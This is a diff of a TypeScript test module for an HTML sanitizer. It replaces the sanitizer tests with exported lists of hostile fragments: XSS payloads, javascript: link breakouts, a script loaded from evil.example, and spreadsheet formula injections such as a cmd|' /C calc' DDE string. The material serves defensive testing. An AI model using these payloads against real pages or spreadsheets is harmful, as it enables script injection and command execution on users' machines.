@@ -1,11 +1,6 @@
-import { JSDOM, VirtualConsole } from "jsdom";
-import { expect, test } from "vitest";
-import { contentHtml } from "../../../../../src/core/page/dom.ts";
-import { safeCopy } from "./safe-copy.ts";
+import { existsSync, readFileSync } from "node:fs";
 
-const url = "https://news.example/a.html";
-
-/** What runs calls `alert`, in whatever way it comes to run. */
+/** Pieces of HTML that try to run, to load or to lead astray; what runs calls `alert`, in whatever way it comes to run. */
 const ATTACKS: readonly string[] = [
   "<script>alert(1)</script>",
   "<SCRIPT/SRC=//evil.example/x.js></SCRIPT>",
@@ -80,89 +75,55 @@ const ATTACKS: readonly string[] = [
   "<constructor>甲<toString>乙</toString></constructor><table><constructor>丙</table>",
 ];
 
-const SAFE_TAG =
-  /^(?:a|abbr|b|blockquote|br|code|details|div|em|figcaption|figure|i|img|li|math|mfrac|mi|mn|mo|mrow|mtext|p|pre|span|strong|summary|table|tbody|td|th|tr|ul)$/;
-const SAFE_ATTRIBUTE = /^(?:alt|data-look|data-removal|height|href|id|lang|open|src|srcset|title|width)$/;
-const SAFE_ADDRESS = /^(?:https?:|mailto:|#note-\d+$|data:image\/(?:png|jpe?g|gif|webp|avif|bmp);)/;
+/** Addresses and texts that try to end what they stand in when they are copied, or to become something else. */
+const ESCAPES: readonly string[] = [
+  '<a href="mailto:a>b <javascript:alert(1)> c">信</a>',
+  '<a href="mailto:a<javascript:alert(1)>">信</a>',
+  '<a href="mailto:x`y`z">信</a>',
+  '<a href="mailto:x)[点](javascript:alert(1)">信</a>',
+  '<a href="mailto:x\\)[点](javascript:alert(1)">信</a>',
+  '<a href="https://e.example/?q=\\">甲</a>',
+  '<a href="https://e.example/?q=a\\)b">甲</a>',
+  '<a href="https://e.example/(a(b)c">甲</a>',
+  '<a href="https://e.example/?a=1&amp;copy;=2">甲</a>',
+  '<a href="https://e.example/?a=1&amp;#106;avascript">甲</a>',
+  '<a href="https://e.example/#`code`">甲</a>',
+  '<a href="https://e.example/?<b>=1">甲</a>',
+  '<a href="https://e.example/">[乙](javascript:alert(1))</a>',
+  '<a href="https://e.example/">甲](javascript:alert(1)</a>',
+  '<a href="https://e.example/">&lt;javascript:alert(1)&gt;</a>',
+  "<p>[甲]: javascript:alert(1)</p><p>[甲]</p>",
+  "<p>&lt;javascript:alert(1)&gt;</p>",
+  "<p>&lt;img src=x onerror=alert(1)&gt;</p>",
+  "<p>![甲](javascript:alert(1))</p>",
+  "<p>\\[甲](javascript:alert(1))</p>",
+  "<p>`甲</p><p>[乙](javascript:alert(1))`</p>",
+  "<p><code>甲`[乙](javascript:alert(1))</code></p>",
+  "<pre>```\n[乙](javascript:alert(1))\n~~~</pre>",
+  '<p><img src="https://e.example/a.jpg" alt="甲](javascript:alert(1)) ![乙"></p>',
+  '<p><img src="https://e.example/a(1).jpg?x=`y`" alt="甲\\"></p>',
+  '<table><tr><td>甲|[乙](javascript:alert(1))</td></tr><tr><td><a href="https://e.example/?a|b">丙</a></td></tr></table>',
+  "<p><sub>&lt;script&gt;alert(1)&lt;/script&gt;</sub></p>",
+  "<ul><li>[ ] 甲</li><li>&gt; [乙](javascript:alert(1))</li></ul>",
+  "<h2>甲 ## [乙](javascript:alert(1))</h2>",
+  '<math alttext="&lt;javascript:alert(1)&gt;"><mi>x</mi></math>',
+  '<p>=HYPERLINK("https://evil.example/","3.5亿元")营业收入增长12%。</p>',
+  "<p>＝cmd|' /C calc'!A0营业收入为3.5亿元，同比增长12%。</p><p>@SUM(1+1)净利润为8亿元。</p><p>+1成本达5亿元。</p>",
+  '<p><img src="https://e.example/a.jpg" alt="图 id=" width="600" height="400"></p>',
+  "<blockquote><pre>甲&#13;# 乙&#13;[丙](javascript:alert(1))</pre></blockquote>",
+];
 
-function sanitizedContent(html: string): string {
-  const { document } = new JSDOM(`<!DOCTYPE html><body>${html}`, {
-    url,
-    virtualConsole: new VirtualConsole(),
-  }).window;
-  return contentHtml(safeCopy(document.body, url));
-}
+/** A hundred and more of our own. */
+export const OWN_FRAGMENTS: readonly string[] = [...ATTACKS, ...ESCAPES];
 
-test.each(ATTACKS)("nothing runs when the content is read again: %s", (attack) => {
-  const content = sanitizedContent(`<p>前文</p>${attack}<p>后文</p>`);
-  let ran = false;
-  const { window } = new JSDOM(`<!DOCTYPE html><body>${content}`, {
-    url,
-    runScripts: "dangerously",
-    virtualConsole: new VirtualConsole(),
-    beforeParse(page) {
-      page.alert = () => {
-        ran = true;
-      };
-    },
-  });
-  for (const element of window.document.body.querySelectorAll("*")) {
-    for (const type of ["load", "error", "click", "focus", "mouseover", "toggle"]) {
-      element.dispatchEvent(new window.Event(type));
-    }
-  }
-  expect(ran).toBe(false);
-});
+const PUBLISHED = new URL("../../../shared/data/hostile/fragments.json", import.meta.url);
 
-test.each(ATTACKS)("only what is allowed is in the content: %s", (attack) => {
-  const content = sanitizedContent(`<p>前文</p>${attack}<p>后文</p>`);
-  const { document } = new JSDOM(`<!DOCTYPE html><body>${content}`).window;
-  for (const element of document.body.querySelectorAll("*")) {
-    expect(element.localName).toMatch(SAFE_TAG);
-    for (const { name, value } of element.attributes) {
-      expect(name).toMatch(SAFE_ATTRIBUTE);
-      if (name === "href" || name === "src") expect(value).toMatch(SAFE_ADDRESS);
-      if (name === "id") expect(value).toMatch(/^note-\d+$/);
-    }
-  }
-});
-
-test.each(ATTACKS)("the content read again is the same: %s", (attack) => {
-  const content = sanitizedContent(`<p>前文</p>${attack}<p>后文</p>`);
-  expect(contentHtml(new JSDOM(`<!DOCTYPE html><body>${content}`).window.document.body)).toBe(content);
-});
-
-test("trees that no parser makes come out as a parser would make them", () => {
-  const { document } = new JSDOM("", { url }).window;
-  const tree: readonly string[] = [
-    "p",
-    "table",
-    "a",
-    "h2",
-    "tr",
-    "li",
-    "td",
-    "p",
-    "h3",
-    "a",
-    "ul",
-    "p",
-    "dd",
-    "table",
-    "div",
-    "caption",
-  ];
-  let at: Element = document.body;
-  for (const tag of tree) {
-    at.append(`${tag}前`);
-    const child = document.createElement(tag);
-    if (tag === "a") child.setAttribute("href", "/x");
-    at.append(child, `${tag}后`);
-    at = child;
-  }
-  at.append("底");
-  const body = safeCopy(document.body, url);
-  const content = contentHtml(body);
-  expect(contentHtml(new JSDOM(`<!DOCTYPE html><body>${content}`).window.document.body)).toBe(content);
-  expect(body.textContent).toContain("底");
-});
+/** Those that others published, where the collection lies beside the repository. */
+export const PUBLISHED_FRAGMENTS: readonly string[] = existsSync(PUBLISHED)
+  ? [
+      // The collection's own format.
+      ...new Set(
+        (JSON.parse(readFileSync(PUBLISHED, "utf8")) as { readonly html: string }[]).map(({ html }) => html),
+      ),
+    ]
+  : [];
